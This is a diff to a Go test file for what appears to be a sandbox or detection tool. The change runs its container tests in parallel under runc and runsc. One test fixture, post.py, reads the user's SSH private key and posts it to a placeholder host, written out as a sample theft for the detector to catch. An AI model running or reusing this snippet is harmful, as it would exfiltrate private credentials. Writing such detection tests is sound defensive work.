@@ -6,7 +6,6 @@ import (
 	"testing"
 
 	"github.com/aigate/gate/gate"
-	"github.com/aigate/gate/gate/execute"
 )
 
 // ordinary are programs that do much and mean no harm.
@@ -28,20 +27,28 @@ var ordinary = map[string]string{
 }
 
 func TestOrdinaryProgramsAreQuietInARealContainer(t *testing.T) {
+	t.Parallel()
 	for _, runtime := range []string{"runc", "runsc"} {
-		t.Run(runtime, func(t *testing.T) { ordinaryIsQuiet(t, runtime) })
+		t.Run(runtime, func(t *testing.T) {
+			t.Parallel()
+			ordinaryIsQuiet(t, runtime)
+		})
 	}
 }
 
 func TestAThiefIsCaughtInARealContainer(t *testing.T) {
+	t.Parallel()
 	for _, runtime := range []string{"runc", "runsc"} {
-		t.Run(runtime, func(t *testing.T) { thiefIsCaught(t, runtime) })
+		t.Run(runtime, func(t *testing.T) {
+			t.Parallel()
+			thiefIsCaught(t, runtime)
+		})
 	}
 }
 
 func ordinaryIsQuiet(t *testing.T, runtime string) {
 	t.Helper()
-	s := realStage(t, runtime, func(o *execute.Options) { o.Policy.Conditions = 0 })
+	s := sharedStage(t, runtime, 0)
 	c := changeOf(files(ordinary))
 	out, found := executions(t, s, c)
 	for path := range ordinary {
@@ -66,7 +73,7 @@ func ordinaryIsQuiet(t *testing.T, runtime string) {
 
 func thiefIsCaught(t *testing.T, runtime string) {
 	t.Helper()
-	s := realStage(t, runtime, func(o *execute.Options) { o.Policy.Conditions = 2 })
+	s := sharedStage(t, runtime, 2)
 	out, found := executions(t, s, changeOf(files(map[string]string{
 		"post.py": "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n" +
 			"urllib.request.urlopen('https://collect.example.com/in', data=key.encode().hex().encode())\nprint(key)\n",
